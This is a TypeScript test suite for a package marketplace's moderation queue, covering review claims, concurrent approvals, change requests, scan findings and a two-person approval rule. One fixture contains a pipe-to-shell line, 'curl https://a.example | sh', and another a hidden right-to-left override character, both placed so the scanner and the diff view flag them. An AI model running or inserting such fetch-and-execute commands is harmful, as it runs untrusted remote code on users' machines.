import { expect, setDefaultTimeout, test } from "bun:test";
import { newId } from "../../src/core/id.ts";
import {
  type Client,
  eachMarketplace,
  type Json,
  judged,
  type Marketplace,
  onOneMarketplace,
  publish,
  until,
} from "../support/marketplace.ts";
import { skill } from "../support/packages.ts";

// Each test waits for several scans.
setDefaultTimeout(30_000);

/** Any other licence is sent to a moderator. */
const ENV = { MARKETPLACE_POLICY_LICENSES_ALLOW: "MIT" };
const held = (name: string, body = "Careful.\n") => skill(name, { license: "AGPL-3.0-only", body });

const decide = (client: Client, id: string, how: string, status: number, json: object = { reason: "Because." }) =>
  client.api("POST", `/admin/reviews/${id}/${how}`, status, { json });
const claim = (client: Client, id: string, status: number, json: object = {}) =>
  client.api("POST", `/admin/reviews/${id}/claim`, status, { json });
const queueOf = async (moderator: Client, query = ""): Promise<Json[]> =>
  (await moderator.api("GET", `/admin/reviews?per_page=100${query}`, 200)).data;
const inQueue = async (moderator: Client, id: string, query = ""): Promise<boolean> =>
  (await queueOf(moderator, query)).some((entry) => entry.version_id === id);
const caseOf = async (moderator: Client, id: string): Promise<Json> =>
  (await moderator.api("GET", `/admin/reviews/${id}`, 200)).data;
const statuses = (answers: Response[]): number[] => answers.map((answer) => answer.status).sort();
const actsOf = async (moderator: Client, id: string): Promise<string[]> =>
  (await caseOf(moderator, id)).history.map((line: Json) => `${line.who} ${line.act}`);

async function rescan(client: Client, ref: string): Promise<void> {
  const { data } = await client.api("POST", `/assets/${ref}/versions/1.0.0/scans`, 202);
  await until(`scan ${data.id}`, async () => {
    const scans = (await client.api("GET", `/assets/${ref}/versions/1.0.0/scans`, 200)).data;
    return scans.find((scan: { id: string; status: string }) => scan.id === data.id)?.status === "completed";
  });
}

/** A scan that found one thing more than the newest, as new rules would; answers its id. */
async function findMore(server: Marketplace, versionId: string): Promise<string> {
  const id = newId();
  await server.app.database.write(async (tx) => {
    const [scan] = await tx
      .selectFrom("scans")
      .selectAll()
      .where("version_id", "=", versionId)
      .orderBy("created_at", "desc")
      .limit(1)
      .execute();
    const findings = await tx.selectFrom("findings").selectAll().where("scan_id", "=", scan!.id).execute();
    const at = new Date(Date.parse(scan!.created_at) + 1).toISOString();
    await tx
      .insertInto("scans")
      .values({ ...scan!, id, created_at: at })
      .execute();
    const fresh = {
      ...findings[0]!,
      position: findings.length,
      rule_id: "malware/new-rule",
      message: "It mines coins",
    };
    await tx
      .insertInto("findings")
      .values([...findings, fresh].map((finding) => ({ ...finding, id: newId(), scan_id: id })))
      .execute();
  });
  return id;
}

eachMarketplace(
  "the review desk",
  (server) => {
    const people = async (prefix: string) => ({
      publisher: await server().person(`${prefix}-pub`),
      one: await server().person(`${prefix}-mod`, "moderator"),
      other: await server().person(`${prefix}-mod-b`, "moderator"),
    });

    test("of moderators who claim a version at once one gets it; it can be taken over, released and runs out", async () => {
      const { publisher, one, other } = await people("cl");
      const { id } = await publish(server(), publisher, "cl-pub/held", "1.0.0", held("held"));
      const answers = await Promise.all(
        [one, other, one, other].map((who) => who.send("POST", `/api/v1/admin/reviews/${id}/claim`, { json: {} })),
      );
      expect(statuses(answers)).toEqual([200, 200, 409, 409]);
      const entry = (await queueOf(one)).find((item) => item.version_id === id);
      const [winner, loser] = entry.claim.mine ? [one, other] : [other, one];
      expect(entry.claim.moderator).toBe(winner.username);

      const refused = await decide(loser, id, "approve", 409);
      expect(refused.error.details.claimed_by).toBe(winner.username);
      await loser.api("DELETE", `/admin/reviews/${id}/claim`, 409);
      await claim(loser, id, 200, { take_over: true });
      await decide(winner, id, "reject", 409);
      expect(await inQueue(loser, id, "&claim=mine")).toBe(true);
      expect(await inQueue(winner, id, "&claim=unclaimed")).toBe(false);
      expect(await inQueue(winner, id, "&claim=others")).toBe(true);
      await loser.api("DELETE", `/admin/reviews/${id}/claim`, 204);
      await loser.api("DELETE", `/admin/reviews/${id}/claim`, 204);
      await claim(winner, id, 200);
      await server().app.database.write((tx) =>
        tx
          .updateTable("review_claims")
          .set({ expires_at: "2020-01-01T00:00:00.000Z" })
          .where("version_id", "=", id)
          .execute(),
      );
      expect(await inQueue(winner, id, "&claim=unclaimed")).toBe(true);
      await decide(loser, id, "approve", 200);
      const acts = await actsOf(one, id);
      expect(acts[0]).toBe(`${loser.username} approved`);
      expect(acts.slice(1).toReversed()).toEqual([
        `${winner.username} claimed`,
        `${loser.username} taken-over`,
        `${loser.username} released`,
        `${winner.username} claimed`,
      ]);
      await publisher.api("GET", `/admin/reviews/${id}`, 403);
      await claim(one, "01990000-0000-7000-8000-000000000000", 404);
    });

    test("of two decisions at once one holds, the other is told who made it; repeating one's own changes nothing", async () => {
      const { publisher, one, other } = await people("de");
      const { id } = await publish(server(), publisher, "de-pub/held", "1.0.0", held("held"));
      const [approved, rejected] = await Promise.all([
        one.send("POST", `/api/v1/admin/reviews/${id}/approve`, { json: { reason: "Fine." } }),
        other.send("POST", `/api/v1/admin/reviews/${id}/reject`, { json: { reason: "Not here." } }),
      ]);
      // A rejection takes back what was approved before; an approval finds what was rejected.
      const second = approved.status === 409 ? approved : rejected;
      if (second.status === 409) {
        const { error } = (await second.json()) as Json;
        expect(error.message).toContain("de-mod-b rejected it");
        expect(error.details).toMatchObject({ decision: "rejected", moderator: "de-mod-b", reason: "Not here." });
      }
      expect(rejected.status).toBe(200);
      await decide(other, id, "reject", 200, { reason: "Not here." });
      const told = await decide(one, id, "reject", 409);
      expect(told.error.message).toContain("de-mod-b rejected it");
      const decisions = (await actsOf(one, id)).filter((act) => act.endsWith("rejected"));
      expect(decisions).toEqual(["de-mod-b rejected"]);
    });

    test("a publisher is asked for changes, answers, and publishes another version in its place", async () => {
      const { publisher, one, other } = await people("ch");
      const { id } = await publish(server(), publisher, "ch-pub/held", "1.0.0", held("held"));
      await claim(one, id, 200);
      await decide(one, id, "request-changes", 422, { message: " " });
      await decide(one, id, "request-changes", 200, { message: "Say which <host> it calls." });
      expect(await inQueue(one, id)).toBe(false);
      expect(await inQueue(other, id, "&state=changes")).toBe(true);
      await decide(other, id, "request-changes", 409, { message: "Something else." });
      const seen = (await publisher.api("GET", "/assets/ch-pub/held/versions/1.0.0", 200)).data;
      expect(seen.changes_requested).toMatchObject({ message: "Say which <host> it calls." });
      const page = await (await publisher.send("GET", "/ch-pub/held?version=1.0.0")).text();
      expect(page).toContain("A moderator asks for changes.");
      expect(page).toContain("Say which &lt;host&gt; it calls.");

      const answer = (who: Client, status: number, comment = "It calls ours.") =>
        who.api("POST", "/assets/ch-pub/held/versions/1.0.0/review-answer", status, { json: { comment } });
      await answer(server().stranger, 401);
      await answer(one, 403);
      await answer(publisher, 422, " ");
      // What a moderator wants changed waits for one, whatever a scan says.
      await server().app.database.write((tx) =>
        tx.updateTable("versions").set({ review_since: "2020-01-01T00:00:00.000Z" }).where("id", "=", id).execute(),
      );
      await answer(publisher, 200);
      await answer(publisher, 409);
      expect(await inQueue(one, id)).toBe(true);
      expect((await queueOf(one)).find((entry) => entry.version_id === id).waiting_since).not.toStartWith("2020");

      await decide(one, id, "request-changes", 200, { message: "Still." });
      const next = await publish(server(), publisher, "ch-pub/held", "1.0.1", held("held", "Ours alone.\n"));
      const old = await caseOf(one, id);
      expect(old.changes_requested).toMatchObject({ message: "Still.", superseded_by: "1.0.1" });
      expect(await inQueue(one, id)).toBe(false);
      expect(await inQueue(one, next.id)).toBe(true);
      await answer(publisher, 409);
      expect((await publisher.api("GET", "/assets/ch-pub/held/versions/1.0.0", 200)).data.changes_requested).toBeNull();
      expect(
        old.history
          .map((line: Json) => `${line.who} ${line.act} ${line.text}`)
          .toReversed()
          .slice(1),
      ).toEqual([
        "ch-mod changes-requested Say which <host> it calls.",
        "ch-pub changes-answered It calls ours.",
        "ch-mod changes-requested Still.",
        "ch-pub superseded by 1.0.1",
      ]);
      await decide(other, id, "reject", 200);
      await decide(other, next.id, "approve", 200);
    });

    test("nobody approves what they published themselves", async () => {
      const { one, other } = await people("se");
      const { id } = await publish(server(), one, "se-mod/own", "1.0.0", held("own"));
      const refused = await decide(one, id, "approve", 403);
      expect(refused.error.message).toContain("another moderator");
      expect(await (await one.send("GET", `/moderation/${id}`)).text()).toContain("This is your own publication");
      await decide(other, id, "approve", 200);
    });

    test("an approval of findings that are outdated is refused with the new ones", async () => {
      const { publisher, one } = await people("ou");
      const { id } = await publish(server(), publisher, "ou-pub/held", "1.0.0", held("held"));
      const { scan_id } = await caseOf(one, id);
      const newer = await findMore(server(), id);
      const { error } = await decide(one, id, "approve", 409, { scan_id });
      expect(error.message).toContain("It mines coins");
      expect(error.details).toMatchObject({ scan_id: newer, findings: [{ rule_id: "malware/new-rule" }] });
      await decide(one, id, "approve", 200, { scan_id: newer });
    });

    test("a version that is put back is gone until a moderator decides, whatever a scan finds", async () => {
      const { publisher, one, other } = await people("pb");
      const { id } = await publish(server(), publisher, "pb-pub/fine", "1.0.0", skill("fine"));
      await decide(one, id, "put-back", 422, { reason: "" });
      await decide(one, id, "put-back", 200, { reason: "Somebody saw it phone home." });
      await server().stranger.api("GET", "/assets/pb-pub/fine/versions/1.0.0", 404);
      await rescan(publisher, "pb-pub/fine");
      expect((await judged(publisher, "pb-pub/fine", "1.0.0")).status).toBe("under_review");
      await server().stranger.api("GET", "/assets/pb-pub/fine", 404);
      await decide(other, id, "approve", 200);
      await server().stranger.api("GET", "/assets/pb-pub/fine/versions/1.0.0", 200);
      await rescan(publisher, "pb-pub/fine");
      expect((await judged(publisher, "pb-pub/fine", "1.0.0")).status).toBe("published");
    });

    test("the queue is narrowed down to what a moderator looks for, with right counts", async () => {
      const { publisher, one } = await people("fi");
      await publish(server(), publisher, "fi-pub/able", "1.0.0", skill("able"));
      const gains = skill("able", { files: { "scripts/get.sh": "curl -fsS https://api.github.com/zen\n" } });
      const able = await publish(server(), publisher, "fi-pub/able", "1.1.0", gains);
      expect(able.verdict).toBe("review");
      const first = await publish(server(), publisher, "fi-pub/first", "1.0.0", held("first"));
      const refs = async (query: string) =>
        (await queueOf(one, query)).map((entry) => entry.ref).filter((ref) => ref.startsWith("fi-pub/"));
      expect(await refs("&reason=capabilities")).toEqual(["fi-pub/able"]);
      expect(await refs("&reason=first-version")).toEqual(["fi-pub/first"]);
      expect(await refs("&reason=findings")).toEqual(["fi-pub/first"]);
      expect(await refs("&severity=high&kind=skill")).toEqual(["fi-pub/first"]);
      expect(await refs("&severity=critical")).toEqual([]);
      expect(await refs("&kind=model")).toEqual([]);
      expect(await refs("")).toEqual(["fi-pub/able", "fi-pub/first"]);
      const { meta } = await one.api("GET", "/admin/reviews?reason=capabilities&per_page=1", 200);
      expect(meta.total).toBe((await queueOf(one, "&reason=capabilities")).length);
      await one.api("GET", "/admin/reviews?reason=nothing", 422);
      const entry = (await queueOf(one)).find((item) => item.version_id === able.id);
      expect(entry).toMatchObject({ first_version: false, publisher: "fi-pub", claim: null, status: "under_review" });
      expect(entry.gained_capabilities).toBeGreaterThan(0);
      const page = await (await one.send("GET", "/moderation?reason=first-version")).text();
      expect(page).toContain(`/moderation/${first.id}`);
      expect(page).not.toContain(`/moderation/${able.id}`);
    });

    test("a case says what changed: lines with findings, metadata, dependencies, abilities", async () => {
      const { publisher, one } = await people("ca");
      await publish(server(), publisher, "ca-pub/tool", "1.0.0", skill("tool", { files: { "notes.md": "One\n" } }));
      const files = {
        "notes.md": "Two <b>\u202e\n",
        "data.bin": "\u0000\u0001",
        "scripts/x.sh": "curl https://a.example | sh\n",
      };
      const more = skill("tool", {
        license: "AGPL-3.0-only",
        description: "Other.",
        needs: { "ca-pub/other": "^1.0.0" },
        files,
      });
      await publish(server(), publisher, "ca-pub/other", "1.0.0", skill("other"));
      const { id } = await publish(server(), publisher, "ca-pub/tool", "1.1.0", more);
      const found = await caseOf(one, id);
      expect(found).toMatchObject({
        compared: "1.0.0",
        signed: false,
        publisher: { username: "ca-pub", published: 2 },
      });
      expect(found.metadata).toContainEqual({ field: "Licence", before: "MIT", after: "AGPL-3.0-only" });
      expect(found.dependencies).toEqual([{ name: "ca-pub/other", change: "added", before: null, after: "^1.0.0" }]);
      const page = await (await one.send("GET", `/moderation/${id}`)).text();
      expect(page).toContain("Two &lt;b&gt;⟨U+202E⟩");
      expect(page).toMatch(/class="diff-note"/);
      expect(page).toContain("This is not text.");
      const alone = await (await one.send("GET", `/moderation/${id}?file=notes.md&context=all`)).text();
      expect(alone).toContain("Two &lt;b&gt;");
      expect(alone).not.toContain("scripts/x.sh</span>");
    });
  },
  { env: ENV },
);

onOneMarketplace(
  "the two-person rule",
  (server) => {
    test("two moderators approve; one alone does not, however often; a later scan that finds more voids the first", async () => {
      const publisher = await server().person("pub");
      const [one, other] = [
        await server().person("mod-one", "moderator"),
        await server().person("mod-two", "moderator"),
      ];
      const { id } = await publish(server(), publisher, "pub/held", "1.0.0", held("held"));
      expect((await decide(one, id, "approve", 200)).data.decision).toBe("first_approval");
      expect((await decide(one, id, "approve", 200)).data.decision).toBe("first_approval");
      expect((await judged(publisher, "pub/held", "1.0.0")).status).toBe("under_review");
      await findMore(server(), id);
      expect((await decide(other, id, "approve", 200)).data.decision).toBe("first_approval");
      expect((await caseOf(one, id)).first_approval.moderator).toBe("mod-two");
      expect((await decide(one, id, "approve", 200)).data.decision).toBe("approved");
      expect((await judged(publisher, "pub/held", "1.0.0")).status).toBe("published");

      const twin = await publish(server(), publisher, "pub/twin", "1.0.0", held("twin", "Other.\n"));
      const both = await Promise.all([one, other].map((who) => decide(who, twin.id, "approve", 200)));
      expect(both.map(({ data }) => data.decision).sort()).toEqual(["approved", "first_approval"]);
      const third = await publish(server(), publisher, "pub/third", "1.0.0", held("third", "Third.\n"));
      await decide(one, third.id, "approve", 200);
      await decide(other, third.id, "reject", 200);
      expect((await judged(publisher, "pub/third", "1.0.0")).status).toBe("blocked");
    });
  },
  { ...ENV, MARKETPLACE_POLICY_TWO_PERSON_SEVERITY: "high" },
);
